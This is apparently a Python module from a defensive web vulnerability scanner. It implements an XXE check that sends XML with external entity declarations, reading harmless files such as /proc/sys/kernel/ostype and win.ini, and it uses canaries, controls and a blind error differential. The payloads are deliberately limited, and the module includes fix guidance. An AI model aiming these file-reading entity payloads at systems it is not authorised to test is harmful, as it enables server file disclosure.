"""SNT202 xxe: the target's XML parser resolves external entities.

**What it detects.** An XML parser with DTDs and external entities enabled (lxml with
``resolve_entities=True``, Java's default ``DocumentBuilderFactory``, old .NET, PHP ``LIBXML_NOENT``):
a ``SYSTEM "file:///..."`` entity reads server files into the document, or reaches internal hosts.
Tested wherever XML goes: XML request bodies (``application/xml`` in OpenAPI, or an endpoints-file
line whose body starts with ``<``), form fields and query parameters holding XML, and XML inside
JSON strings; a field named like XML (``xml``, ``soap``, ``svg``...) with no value gets a small
document. No content type is required: a ``text/plain`` form field parsed as XML is just as
vulnerable. The probe keeps the target's own document (root, elements) and adds a DOCTYPE:

1. *Internal entity canary*: ``<!ENTITY e "kqzd">`` and ``&e;bvtr`` in the first text node. Seeing
   ``kqzdbvtr`` shows DTD processing is on: the request never contains that string.
2. *Harmless local file with known content*: ``<!ENTITY e SYSTEM "file:///proc/sys/kernel/ostype">``
   between two canaries must show ``kqzd`` ``Linux`` ``bvtr`` (``c:/windows/win.ini`` and its
   ``[fonts]`` at level 2).
3. *Control*: the same document with the entity pointing at a file that cannot exist must *not*
   show the content between the canaries; if it shows a parser error naming that file, the target
   also discloses entity errors (error-based XXE, which also confirms when nothing is echoed).
4. *Confirmation*: the file read again with fresh canaries.
5. *Blind, parser-error differential* (nothing echoed, no error text): an entity naming the harmless
   file must answer like the baseline, and the same entity naming a file that cannot exist must
   answer differently (a 500, an error page), in every round with fresh names (the boolean
   differential of ``docs/injection.md``). A parser that does not load external entities answers
   both alike; one that refuses DTDs fails both.

DTD processing with internal entities only (lxml 5's default) is not reported as XXE; the check's
summary says so.

**Payloads.** One entity per document, never nested, never a parameter entity, never a network
URL: the entity-bomb and out-of-band shapes are refused by the safety guard. The only files named
are ``/proc/sys/kernel/ostype``, ``c:/windows/win.ini`` and a non-existent path.

**False-positive guards.** Canaries and the file's text must appear *adjacent*, in that order,
which an echo of the request cannot produce; the control rules out a page that prints "Linux" on its
own; an XML endpoint that refuses DTDs answers with its error and nothing more.

**CWE:** CWE-611 (Improper Restriction of XML External Entity Reference).

**Example evidence.** ``POST /xml`` with ``<!DOCTYPE note [<!ENTITY e SYSTEM
"file:///proc/sys/kernel/ostype">]><note><to>kqzd&e;bvtr...`` answered ``Parsed: kqzdLinux bvtr``.

**How to fix.** Parse untrusted XML with ``sentinel.xml`` (defusedxml underneath), which refuses
DTDs and entities; with lxml, ``XMLParser(resolve_entities=False, no_network=True, load_dtd=False)``.
Put ``sentinel``'s XML guard in front of XML endpoints.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from scanner.active.boolean import Twin, differential
from scanner.active.canary import tokens
from scanner.active.points import carries_xml
from scanner.active.probe import Attempt, PointProbe
from scanner.active.safety import NONEXISTENT_PREFIX
from scanner.active.signatures import XXE_ERROR_SIGNATURES, new_matches
from scanner.active.xmldoc import probe_document
from scanner.checks._registry import CheckKind, check
from scanner.context import ScanContext
from scanner.discovery.endpoints import InsertionPoint
from scanner.findings import Confidence, Evidence, Finding, Rule, Severity

NAME = "xxe"
RULE = Rule(
    id="SNT202",
    name=NAME,
    cwe=611,
    severity=Severity.HIGH,
    summary="The XML parser resolves external entities: a local file's content appears in the answer.",
)


@dataclass(frozen=True, kw_only=True)
class KnownFile:
    uri: str
    #: What its content looks like between the canaries.
    content: str
    extra: bool = False


FILES = (
    KnownFile(uri="file:///proc/sys/kernel/ostype", content=r"Linux"),
    KnownFile(uri="file:///c:/windows/win.ini", content=r"; for 16-bit app support|\[fonts\]", extra=True),
)


@check(name=NAME, kind=CheckKind.ACTIVE, rules=[RULE], order=65)
async def run(ctx: ScanContext, point: InsertionPoint) -> list[Finding]:
    if not carries_xml(point):
        ctx.details.setdefault(NAME, "no insertion point carries XML (a body, a field or a JSON string)")
        return []
    async with PointProbe.open(ctx, point, check=NAME) as probe:
        base = await probe.baseline()
        if base is None:
            return []
        internal = await _internal(probe)
        if internal is None and not probe.profile.extra_contexts:
            blind = await _differential(probe)
            return [blind] if blind is not None else []
        for known in FILES:
            if known.extra and not probe.profile.extra_contexts:
                continue
            found = await _file_read(probe, known, internal)
            if found is not None:
                return [found]
        error = await _error_based(probe, base) or await _differential(probe)
        if error is not None:
            return [error]
        if internal is not None:
            probe.near_miss(
                "DTD processing is on (an internal entity expanded) but external entities are not read"
            )
        return []


async def _send(probe: PointProbe, declaration: str, text: str) -> Attempt | None:
    document, added = probe_document(probe.value, declaration, text)
    return await probe.send(document, added=added)


async def _internal(probe: PointProbe) -> Attempt | None:
    """The internal entity canary: ``<!ENTITY e "a">`` and ``&e;b`` must show ``ab``."""
    name, a, b = tokens(3)
    attempt = await _send(probe, f'<!ENTITY {name} "{a}">', f"&{name};{b}")
    return attempt if attempt is not None and f"{a}{b}" in attempt.text else None


def _between(text: str, a: str, b: str, content: str) -> bool:
    return re.search(rf"{a}\s*(?:{content})[\s\S]{{0,4000}}?{b}", text) is not None


async def _read(probe: PointProbe, uri: str, content: str) -> tuple[Attempt | None, bool]:
    name, a, b = tokens(3)
    attempt = await _send(probe, f'<!ENTITY {name} SYSTEM "{uri}">', f"{a}&{name};{b}")
    return attempt, attempt is not None and _between(attempt.text, a, b, content)


async def _file_read(probe: PointProbe, known: KnownFile, internal: Attempt | None) -> Finding | None:
    first, seen = await _read(probe, known.uri, known.content)
    if first is None or not seen:
        return None
    missing = NONEXISTENT_PREFIX + tokens(1)[0]
    control, shown = await _read(probe, missing, known.content)
    if control is None or shown:
        probe.near_miss(f"{known.uri} content also appeared for a file that cannot exist")
        return None
    again, seen_again = await _read(probe, known.uri, known.content)
    if again is None or not seen_again:
        probe.near_miss(f"{known.uri} was read once, not twice")
        return None
    evidence: list[Evidence] = []
    if internal is not None:
        evidence.append(probe.evidence("internal entity expanded: DTD processing is on", internal))
    evidence += [
        probe.evidence(f"external entity read {known.uri} between the canaries", first),
        probe.evidence("control: a non-existent file gives no such content", control),
        probe.evidence(f"{known.uri} read again with fresh canaries", again),
    ]
    return probe.finding(
        RULE,
        confidence=Confidence.CONFIRMED,
        message=f"XXE in {probe.where}: an external entity read the local file {known.uri}",
        evidence=tuple(evidence),
    )


async def _error_based(probe: PointProbe, base: Attempt) -> Finding | None:
    """A non-existent file named in an entity: the parser's error shows it was requested."""
    name, missing = tokens(2)
    uri = NONEXISTENT_PREFIX + missing
    attack = await _send(probe, f'<!ENTITY {name} SYSTEM "{uri}">', f"&{name};")
    if attack is None or missing not in attack.text:
        return None
    errors = new_matches(attack.text, base.text, XXE_ERROR_SIGNATURES)
    if not errors:
        return None
    # Control: the same entity declared but never referenced. An echo of the request would still
    # show the path; a parser that resolves only what is referenced shows nothing.
    other_name, other = tokens(2)
    control = await _send(probe, f'<!ENTITY {other_name} SYSTEM "{NONEXISTENT_PREFIX}{other}">', "")
    if control is None or other in control.text:
        probe.near_miss("an entity error named the file, but so did an unreferenced entity (an echo)")
        return None
    again_name, again_missing = tokens(2)
    again_uri = NONEXISTENT_PREFIX + again_missing
    again = await _send(probe, f'<!ENTITY {again_name} SYSTEM "{again_uri}">', f"&{again_name};")
    if (
        again is None
        or again_missing not in again.text
        or not new_matches(again.text, base.text, XXE_ERROR_SIGNATURES)
    ):
        probe.near_miss("an entity error named the file once, not twice")
        return None
    family, hit = next(iter(errors.items()))
    return probe.finding(
        RULE,
        confidence=Confidence.CONFIRMED,
        message=(
            f"XXE in {probe.where} (error-based): the parser tried to load an external entity's file "
            "and its error names it"
        ),
        evidence=(
            probe.evidence(f"{family} error for a non-existent entity file: {hit!r}", attack),
            probe.evidence("control: an unreferenced entity is not loaded", control),
            probe.evidence("again with a fresh file name", again),
        ),
    )


def _twin(value: str) -> Twin:
    """An entity naming the harmless file (loads fine) against one naming a file that cannot exist."""
    name, missing = tokens(2)
    reference = f"&{name};"
    loads, loads_added = probe_document(value, f'<!ENTITY {name} SYSTEM "{FILES[0].uri}">', reference)
    fails, fails_added = probe_document(
        value, f'<!ENTITY {name} SYSTEM "{NONEXISTENT_PREFIX}{missing}">', reference
    )
    return Twin(true=loads, false=fails, true_added=loads_added, false_added=fails_added)


async def _differential(probe: PointProbe) -> Finding | None:
    """Blind XXE: nothing is echoed, but a missing entity file breaks the parse and a present one
    does not, so the parser does load external entities."""
    found = await differential(probe, lambda: _twin(probe.value), probe.profile.boolean_rounds)
    if found is None:
        return None
    loads, fails = found.rounds[0]
    return probe.finding(
        RULE,
        confidence=Confidence.CONFIRMED,
        message=(
            f"XXE in {probe.where} (blind, parser-error differential): an external entity naming "
            f"{FILES[0].uri} is accepted and one naming a file that cannot exist is not, so the parser "
            f"loads external files; {found.describe()}"
        ),
        evidence=(
            probe.evidence("baseline", found.baseline),
            probe.evidence(f"entity naming {FILES[0].uri}: answers like the baseline", loads),
            probe.evidence("entity naming a file that cannot exist: answers differently", fails),
        ),
    )


__all__ = ["FILES", "RULE", "run"]
